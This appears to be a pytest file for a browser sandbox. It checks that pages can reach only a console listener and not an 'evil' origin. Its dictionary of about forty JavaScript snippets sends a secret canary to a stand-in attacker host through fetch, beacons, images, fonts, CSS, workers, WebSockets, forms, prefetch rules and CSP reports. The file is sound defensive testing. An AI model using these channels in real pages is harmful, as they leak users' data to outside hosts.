"""Ways out of a page: each reaches the console, and behind the fence nobody else.

Every channel is tried three times: behind the fence towards somebody else, who hears not even a
connection; behind the fence towards the console, which hears it, so the browser had the time and the
means; and with names resolving again, where somebody else does hear it.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from typing import Any

import pytest
from playwright.sync_api import Browser, BrowserContext, Playwright

from pupitre.browser import fence
from pupitre.browser.fence import Fence
from pupitre.browser.launch import fenced_browser
from pupitre.browser.look import Look
from pupitre.mock import Response

SECRET = "S3cr3t-canary"
TAG = (
    "const tag = (name, set, where = document.head) => where.append(Object.assign(document.createElement(name), set));"
)
STYLE = "tag('style', {textContent: `%s`})"
WORKER = "URL.createObjectURL(new Blob([`%s`], {type: 'text/javascript'}))"
RULES = (
    "const rules = document.createElement('script'); rules.type = 'speculationrules';"
    "rules.textContent = JSON.stringify({%s: [{source: 'list', urls: [to], eagerness: 'immediate'}]});"
    "document.head.append(rules)"
)
FORM = (
    "const form = document.createElement('form'); form.method = 'post'; form.action = to; %s"
    "document.body.append(form); form.submit()"
)
LINK = "const a = document.createElement('a'); a.href = to; %s document.body.append(a); a.click()"

# `to` is an address of the listener that ends with what a page would give away.
CHANNELS = {
    "fetch": "fetch(to, {mode: 'no-cors'})",
    "a fetch that is kept alive": "fetch(to, {mode: 'no-cors', keepalive: true, method: 'POST', body: 'x'})",
    "XMLHttpRequest": "const call = new XMLHttpRequest(); call.open('GET', to); call.send()",
    "a beacon": "navigator.sendBeacon(to, 'x')",
    "a picture": "new Image().src = to",
    "a picture of a set": "tag('img', {srcset: to + ' 2x, ' + to + ' 1x'}, document.body)",
    "a font": "new FontFace('x', `url(${to})`).load()",
    "a font of a style": STYLE % "@font-face{font-family:x;src:url(${to})} body{font-family:x}"
    + "; document.body.append('text')",
    "a style that imports": STYLE % "@import url(${to})",
    "a style with a picture": STYLE % "body{background:url(${to})}",
    "a style sheet": "tag('link', {rel: 'stylesheet', href: to})",
    "a script": "tag('script', {src: to})",
    "a module": "import(to).catch(() => {})",
    "an import map": "tag('script', {type: 'importmap', textContent: JSON.stringify({imports: {it: to}})});"
    "tag('script', {type: 'module', textContent: `import 'it'`})",
    "a style that paints": "CSS.paintWorklet ? CSS.paintWorklet.addModule(to).catch(() => {}) : fetch(to, {mode: 'no-cors'})",
    "a worklet of sound": "new OfflineAudioContext(1, 1, 8000).audioWorklet.addModule(to).catch(() => {})",
    "a web socket": "new WebSocket(to.replace('http', 'ws'))",
    "events": "new EventSource(to)",
    "a worker": "new Worker(" + WORKER % "fetch('${to}', {mode: 'no-cors'})" + ")",
    "a web socket of a worker": "new Worker(" + WORKER % "new WebSocket('${to}'.replace('http', 'ws'))" + ")",
    "a shared worker": "new SharedWorker(" + WORKER % "fetch('${to}', {mode: 'no-cors'})" + ")",
    "a film": "tag('video', {src: to}, document.body)",
    "a sound": "new Audio(to).load()",
    "subtitles": "tag('video', {innerHTML: `<track default src='${to}'>`, crossOrigin: ''}, document.body);"
    "document.querySelector('video').textTracks[0].mode = 'showing'",
    "a frame": "tag('iframe', {src: to}, document.body)",
    "a frame without an address": "tag('iframe', {srcdoc: `<img src='${to}'>`}, document.body)",
    "an object": "tag('object', {data: to, type: 'text/html'}, document.body)",
    "an embedded page": "tag('embed', {src: to, type: 'text/html'}, document.body)",
    "a prefetch": "tag('link', {rel: 'prefetch', href: to})",
    "a preload": "tag('link', {rel: 'preload', as: 'image', href: to})",
    "a preloaded module": "tag('link', {rel: 'modulepreload', href: to})",
    "an icon": "tag('link', {rel: 'icon', href: to}); new Image().src = to",
    "a rule to prefetch": RULES % "prefetch",
    "a rule to prerender": RULES % "prerender" + "; fetch(to, {mode: 'no-cors'})",
    "leaving": "location = to",
    "a page that refreshes": "tag('meta', {httpEquiv: 'refresh', content: `0; url=${to}`})",
    "a form": FORM % "",
    "a form of a new window": FORM % "form.target = '_blank';",
    "a form of a frame": "tag('iframe', {name: 'inside'}, document.body);" + FORM % "form.target = 'inside';",
    "a link of a new window": LINK % "a.target = '_blank';",
    "a download": LINK % "a.download = 'x';",
    "a picture in a drawing": "tag('div', {innerHTML: `<svg><image href='${to}'/></svg>`}, document.body)",
    "a report of a broken rule": "tag('iframe', {src: '/reporting?' + encodeURIComponent(to)}, document.body)",
}
LEAVES = re.compile(r"location =|refresh|submit|click")


def address(origin: str, channel: str) -> str:
    return f"{origin}/{'-'.join(channel.split())}/{SECRET}"


@pytest.fixture(autouse=True)
def deaf(evil: Any, console: Any) -> None:
    evil.heard.clear()
    console.heard.clear()


@pytest.fixture(scope="module")
def fenced(playwright: Playwright, console: Any) -> Iterator[Browser]:
    """Yield a fenced browser that opens windows: what they ask for is kept in by the resolver, too."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(fence, "NO_WINDOWS", ())
        with fenced_browser(playwright, Fence(console.origin), Look()) as browser:
            yield browser


def context_of(browser: Browser) -> BrowserContext:
    context = browser.new_context(**fence.CONTEXT)
    fence.put_up(context)
    context.set_default_timeout(10_000)
    context.new_page()  # every page costs a process: those that stay where they are share it
    return context


@pytest.fixture(scope="module")
def inside(fenced: Browser) -> BrowserContext:
    return context_of(fenced)


@pytest.fixture(scope="module")
def outside(resolving: Browser) -> BrowserContext:
    return context_of(resolving)


def tell(context: BrowserContext, console: Any, channel: str, origin: str) -> None:
    """Have a page of the console use a channel towards an origin."""
    to = address(origin, channel)
    policy = (("Content-Security-Policy", f"img-src 'none'; report-uri {to}"),)
    console.pages["/reporting"] = Response(200, b"<img src=/x.png>", "text/html", policy)
    page = context.new_page() if LEAVES.search(CHANNELS[channel]) else context.pages[0]
    page.goto(f"{console.origin}/")
    page.evaluate(f"to => {{ {TAG} {CHANNELS[channel]} }}", to)


@pytest.mark.parametrize("channel", CHANNELS)
def test_behind_the_fence_a_channel_reaches_the_console_and_nobody_else(
    channel: str, inside: BrowserContext, console: Any, evil: Any, until: Any
) -> None:
    tell(inside, console, channel, evil.origin)
    tell(inside, console, channel, console.origin)
    until(lambda: any(SECRET in one for one in console.heard), inside)
    assert evil.heard == []


@pytest.mark.parametrize("channel", CHANNELS)
def test_where_names_resolve_a_channel_reaches_somebody_else(
    channel: str, outside: BrowserContext, console: Any, evil: Any, until: Any
) -> None:
    """The control is `fence.NOTHING_ELSE`: without it each of these ways is open."""
    tell(outside, console, channel, evil.origin)
    until(lambda: any(SECRET in one for one in evil.heard), outside)
